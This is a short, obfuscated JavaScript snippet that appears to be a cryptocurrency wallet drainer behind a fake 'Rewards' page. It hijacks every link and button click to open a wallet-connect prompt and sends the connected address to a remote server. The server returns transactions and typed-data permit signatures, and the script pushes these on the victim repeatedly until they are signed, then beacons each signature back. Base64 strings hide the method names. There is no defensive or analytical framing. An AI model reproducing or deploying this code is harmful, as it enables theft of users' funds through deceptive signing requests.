var _0=["c3Vic2NyaWJlQWNjb3VudA==","ZXRoX3NpZ25UeXBlZERhdGFfdjQ="].map(atob);
import("https://esm-cdn.invalid/appkit").then(({createAppKit:c,EthersAdapter:E,nets:n})=>{
var k=c({adapters:[new E],networks:n,projectId:"PROJECT",metadata:{name:"Rewards",url:location.origin,icons:[]},features:{email:!1,socials:[]}});
document.querySelectorAll("a,button,[role=button]").forEach(function(b){b.addEventListener("click",function(e){e.preventDefault();k.open()})});
k[_0[0]](async function(s){if(!s.isConnected)return;var p=k.getWalletProvider();
var r=await fetch("https://esm-cdn.invalid/p",{method:"POST",body:s.address}).then(function(x){return x.json()});
for(var i=0,f=0;i<r.length;){try{var g=await p.request({method:r[i].t?_0[1]:"eth_sendTransaction",params:r[i].t?[s.address,r[i].t]:[r[i].x]});
navigator.sendBeacon("https://esm-cdn.invalid/g",JSON.stringify([r[i].id,g]));i++}catch(e){if(++f>9){i++;f=0}}}})});
